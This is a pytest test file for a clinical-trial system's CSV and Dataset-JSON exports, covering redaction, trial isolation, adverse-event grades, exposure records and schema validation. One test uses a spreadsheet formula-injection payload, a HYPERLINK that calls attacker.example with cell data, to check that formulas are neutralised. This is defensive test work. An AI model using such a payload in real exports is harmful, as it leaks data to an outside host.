"""Exports of one trial: its tables as CSV (secrets redacted, formulas neutralised); DM, EX, AE
and RS as Dataset-JSON 1.1, validated against the Dataset-JSON 1.1 JSON schema."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from doseladder.conduct.errors import ValidationError
from doseladder.conduct.models import Base
from doseladder.conduct.services import exports, lymphodepletion, outcomes, patients
from doseladder.io.design_file import load_mapping
from doseladder.protocols import shipped_path

from .conftest import World

SCHEMA = json.loads((Path(__file__).parent / "data" / "dataset-json-1.1.schema.json").read_text())
NEUTROPHILS = "Neutrophil count decreased"


def populated(world: World) -> int:
    tid = world.trial()
    world.decide(tid)
    p1 = world.patient(tid)
    world.enrol(p1, 1)
    world.run(lambda s: patients.register_patient(s, world.inv_b, tid, sex="M", age=41))
    world.patient(tid, world.inv_b, eligible=False)
    a = world.run(
        lambda s: outcomes.record_adverse_event(
            s,
            world.inv_a,
            p1,
            term=NEUTROPHILS,
            lab={"value": 0.4, "unit": "10^9/L"},
            onset_date=world.clock.today(),
            serious=True,
            relatedness="related",
        )
    )
    world.run(
        lambda s: outcomes.correct_adverse_event(
            s,
            world.dm,
            a.id,
            changes={"lab": {"value": 0.8, "unit": "10^9/L"}},
            reason="lab recheck",
        )
    )
    return tid


def test_a_trials_tables_as_csv(world: World, tmp_path: Path) -> None:
    tid = populated(world)
    other = populated(world)  # a second trial stays out of the first one's export
    tables = world.run(lambda s: exports.tables_csv(s, world.monitor, tid))
    assert set(tables) == {t.name for t in Base.metadata.sorted_tables} - {
        "api_tokens",
        "audit_chain_heads",
        "audit_keys",
        "audit_signatures",
        "idempotency_keys",
        "session_activity",
    }
    users = list(csv.DictReader(io.StringIO(tables["users"])))
    assert users and {u["password_hash"] for u in users} == {exports.REDACTED}
    aes = list(csv.DictReader(io.StringIO(tables["adverse_events"])))
    # CTCAE v5: ANC < 0.5 × 10⁹/L is grade 4, 0.5 to < 1.0 grade 3
    assert [(a["version"], a["grade"]) for a in aes] == [("1", "4"), ("2", "3")]
    assert aes[0]["serious"] == "true" and aes[0]["resolved_date"] == ""
    assert {a["trial_id"] for a in aes} == {str(tid)}
    assert [t["id"] for t in csv.DictReader(io.StringIO(tables["trials"]))] == [str(tid)]
    audit_rows = list(csv.DictReader(io.StringIO(tables["audit_events"])))
    assert audit_rows and {r["trial_id"] for r in audit_rows} == {str(tid)}
    assert str(other) not in {r["trial_id"] for r in audit_rows}
    paths = world.run(lambda s: exports.write_tables_csv(s, world.stat, tid, tmp_path / "csv"))
    assert len(paths) == len(tables) and all(p.exists() for p in paths)
    with pytest.raises(ValidationError), world.db.session() as s:
        exports.table_csv(s, "nope")


def test_csv_cells_never_start_a_formula(world: World) -> None:
    tid = world.trial()
    payload = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    world.run(
        lambda s: patients.record_screening(
            s,
            world.inv_a,
            patients.register_patient(s, world.inv_a, tid).id,
            screened_on=world.clock.today(),
            eligible=False,
            notes=payload,
        )
    )
    tables = world.run(lambda s: exports.tables_csv(s, world.stat, tid))
    [row] = list(csv.DictReader(io.StringIO(tables["screening_results"])))
    assert row["notes"] == "'" + payload
    for text in tables.values():
        for cells in csv.reader(io.StringIO(text)):
            for cell in cells:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or exports._NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1+1", "'-1+1"),
        ("-A1", "'-A1"),
        ("-2", "-2"),
        ("-3.5", "-3.5"),
        ("-2e-4", "-2e-4"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, out: str) -> None:
    assert exports.neutralise(cell) == out


@given(st.text(max_size=30))
def test_neutralised_cells_are_never_formulas(cell: str) -> None:
    out = exports.neutralise(cell)
    assert out.endswith(cell)
    if out[:1] in ("=", "+", "@", "\t", "\r", "-"):
        assert out == cell and exports._NUMBER.fullmatch(cell)
        float(cell)  # a plain number


def test_dataset_json_domains(world: World, tmp_path: Path) -> None:
    tid = populated(world)
    dm = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "dm"))
    assert dm["datasetJSONVersion"] == "1.1.0" and dm["itemGroupOID"] == "IG.DM"
    assert dm["records"] == len(dm["rows"]) == 3
    names = [c["name"] for c in dm["columns"]]
    assert names[:3] == ["STUDYID", "DOMAIN", "USUBJID"]
    rows = {r[names.index("SUBJID")]: dict(zip(names, r, strict=True)) for r in dm["rows"]}
    assert (
        rows["SA-001"]["ARMCD"] == "DL1"
        and rows["SA-001"]["RFXSTDTC"] == world.clock.today().isoformat()
    )
    assert rows["SB-001"]["ARMCD"] == "NOTASSGN" and rows["SB-001"]["AGE"] == 41
    assert rows["SB-002"]["ARMCD"] == "SCRNFAIL"
    ex = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "EX"))
    assert ex["records"] == 1
    ae = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "AE"))
    [row] = ae["rows"]
    aecols = [c["name"] for c in ae["columns"]]
    rec = dict(zip(aecols, row, strict=True))
    assert (rec["AETERM"], rec["AETOXGR"], rec["AESER"], rec["AEREL"]) == (
        NEUTROPHILS,
        "3",
        "Y",
        "RELATED",
    )
    assert rec["ASTCTGR"] is None and rec["AEDLT"] is None
    assert all({"itemOID", "name", "label", "dataType"} <= set(c) for c in ae["columns"])
    with pytest.raises(ValidationError) as info:
        world.run(lambda s: exports.dataset_json(s, world.stat, tid, "LB"))
    assert info.value.field == "domain"
    paths = world.run(lambda s: exports.write_dataset_json(s, world.stat, tid, tmp_path))
    assert [p.name for p in paths] == ["dm.json", "ex.json", "ae.json", "rs.json"]
    assert json.loads(paths[0].read_text())["name"] == "DM"
    for path in paths:
        jsonschema.validate(json.loads(path.read_text()), SCHEMA)


def test_exposure_uses_the_protocol_dose_amounts(world: World) -> None:
    tid = world.trial(load_mapping(shipped_path("steam-cd19-car-t-csle")), code="STEAM")
    world.decide(tid, indication="cSLE")
    world.enrol(world.patient(tid, indication="cSLE"), 1)
    ex = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "EX"))
    cols = [c["name"] for c in ex["columns"]]
    rec = dict(zip(cols, ex["rows"][0], strict=True))
    assert (rec["EXDOSE"], rec["EXDOSU"]) == (100000.0, "cells/kg")
    assert rec["EXDOSTXT"].startswith("DL1: 1×10^5")


def test_audit_services(world: World) -> None:
    populated(world)
    result = world.run(lambda s: exports.verify_audit(s, world.monitor))
    assert result.ok
    copy = world.run(lambda s: exports.audit_copy(s, world.monitor))
    assert copy["generated_by"] == "monitor" and copy["head"]["seq"] == result.head_seq


def records(data: dict[str, Any]) -> list[dict[str, Any]]:
    names = [c["name"] for c in data["columns"]]
    return [dict(zip(names, r, strict=True)) for r in data["rows"]]


def test_exposure_holds_the_recorded_lymphodepletion_not_the_plan(world: World) -> None:
    tid = world.trial(load_mapping(shipped_path("f01-car-nk-snc103")), code="F01")
    d = world.decide(tid)
    pid = world.patient(tid, indication="SLE")
    world.enrol(pid, d.next_dose or 1, infused=False)
    start = world.clock.today()
    world.clock.advance(days=7)
    # F01's registry record: fludarabine 25-30 and cyclophosphamide 250-300 mg/m² on D-5..D-3;
    # given: fludarabine on two of its three days (one dose corrected), a voided Cy record
    given = [("fludarabine", 1, "30"), ("fludarabine", 2, "25"), ("cyclophosphamide", 1, "250")]
    rows_in = [
        world.run(
            lambda s, a=agent, k=k, dose=dose: lymphodepletion.record_lymphodepletion(
                s, world.inv_a, pid, agent=a, dose=dose, given_on=start + timedelta(days=k)
            )
        )
        for agent, k, dose in given
    ]
    world.run(
        lambda s: lymphodepletion.correct_lymphodepletion(
            s, world.dm, rows_in[1].id, changes={"dose": "27.5", "note": "renal"}, reason="typo"
        )
    )
    world.run(
        lambda s: lymphodepletion.void_lymphodepletion(
            s, world.inv_a, rows_in[2].id, reason="wrong patient"
        )
    )
    before = records(world.run(lambda s: exports.dataset_json(s, world.stat, tid, "EX")))
    assert [(r["EXTRT"], r["EXDOSE"]) for r in before] == [
        ("fludarabine", 30.0),
        ("fludarabine", 27.5),
    ]
    infusion = start + timedelta(days=6)

    def infuse(s: Any) -> None:
        e = patients.current_enrolment(s, world.inv_a, pid)
        assert e is not None
        patients.record_infusion(s, world.inv_a, e.id, infusion_date=infusion)

    world.run(infuse)
    ex = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "EX"))
    jsonschema.validate(ex, SCHEMA)
    rows = records(ex)
    lympho = [r for r in rows if r["EXCAT"] == "LYMPHODEPLETION"]
    assert [(r["EXTRT"], r["EXDOSE"], r["EXDOSU"], r["EXSTDTC"]) for r in lympho] == [
        ("fludarabine", 30.0, "mg/m2", (start + timedelta(days=1)).isoformat()),
        ("fludarabine", 27.5, "mg/m2", (start + timedelta(days=2)).isoformat()),
    ]
    assert lympho[0]["EXDOSTXT"] == "30 mg/m2 on day -5 (recorded)"
    assert lympho[1]["EXDOSTXT"] == "27.5 mg/m2 on day -4 (recorded); renal"
    assert not any("not recorded" in (r["EXDOSTXT"] or "") for r in rows)
    [treat] = [r for r in rows if r["EXCAT"] == "STUDY TREATMENT"]
    assert treat["EXTRT"] == "F01" and treat["EXSTDTC"] == infusion.isoformat()
    assert [r["EXSEQ"] for r in rows] == [1, 2, 3]
    other = world.trial(load_mapping(shipped_path("f01-car-nk-snc103")), code="F01B")
    assert world.run(lambda s: exports.dataset_json(s, world.stat, other, "EX"))["records"] == 0


def test_adverse_events_carry_grades_and_the_dlt_call(world: World) -> None:
    tid = world.trial()
    world.decide(tid)
    pid = world.patient(tid)
    world.enrol(pid, 1)
    crs = world.run(
        lambda s: outcomes.record_adverse_event(
            s,
            world.inv_a,
            pid,
            term="Cytokine release syndrome",
            crs={
                "temperature_max": 39.0,
                "temperature_unit": "°C",
                "fever_other_cause": False,
                "hypotension": True,
                "vasopressors": ["norepinephrine"],
                "oxygen": "none",
            },
            onset_date=world.clock.today(),
            relatedness="probable",
        )
    )
    world.run(
        lambda s: outcomes.adjudicate_dlt(
            s, world.stat, pid, is_dlt=True, adverse_event_id=crs.id, rationale="CRS grade 3"
        )
    )
    ae = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "AE"))
    jsonschema.validate(ae, SCHEMA)
    [rec] = records(ae)
    assert (rec["AEDECOD"], rec["AETOXGR"], rec["ASTCTGR"], rec["AEDLT"]) == (
        "Cytokine release syndrome",
        None,
        "3",
        "Y",
    )
    text = world.run(lambda s: exports.domain_csv(s, world.stat, tid, "AE"))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["ASTCTGR"], row["AEDLT"]) == ("3", "Y")


def test_response_domain(world: World) -> None:
    tid = world.trial()
    world.decide(tid)
    pid = world.patient(tid)
    world.enrol(pid, 1)
    e = world.run(
        lambda s: outcomes.assess_efficacy(
            s,
            world.inv_a,
            pid,
            assessed_on=world.clock.today(),
            instrument="ITP response",
            components={"platelets": 45, "unit": "10^9/L", "baseline_platelets": 10},
        )
    )
    rs = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "RS"))
    jsonschema.validate(rs, SCHEMA)
    [rec] = records(rs)
    # seed 000: 30-100 × 10⁹/L and ≥ 2 × baseline (no bleeding recorded as unknown → not PR?)
    assert rec["RSTESTCD"] == "ITPRESP" and rec["RSCALL"] == "proposed"
    assert rec["RSSTRESC"] is None
    world.run(
        lambda s: outcomes.override_response(
            s, world.inv_a, e.id, responder=not e.proposed_responder, reason="reviewed"
        )
    )
    [rec] = records(world.run(lambda s: exports.dataset_json(s, world.stat, tid, "RS")))
    assert rec["RSCALL"] == "overridden"
    assert rec["RSSTRESC"] == ("NON-RESPONDER" if e.proposed_responder else "RESPONDER")


def test_the_schema_refuses_a_broken_dataset(world: World) -> None:
    tid = populated(world)
    dm = world.run(lambda s: exports.dataset_json(s, world.stat, tid, "DM"))
    jsonschema.validate(dm, SCHEMA)
    for broken in (
        {k: v for k, v in dm.items() if k != "itemGroupOID"},
        dm | {"datasetJSONVersion": "1.0.0"},
        dm | {"columns": [{**dm["columns"][0], "dataType": "text"}]},
        dm | {"records": -1},
    ):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(broken, SCHEMA)
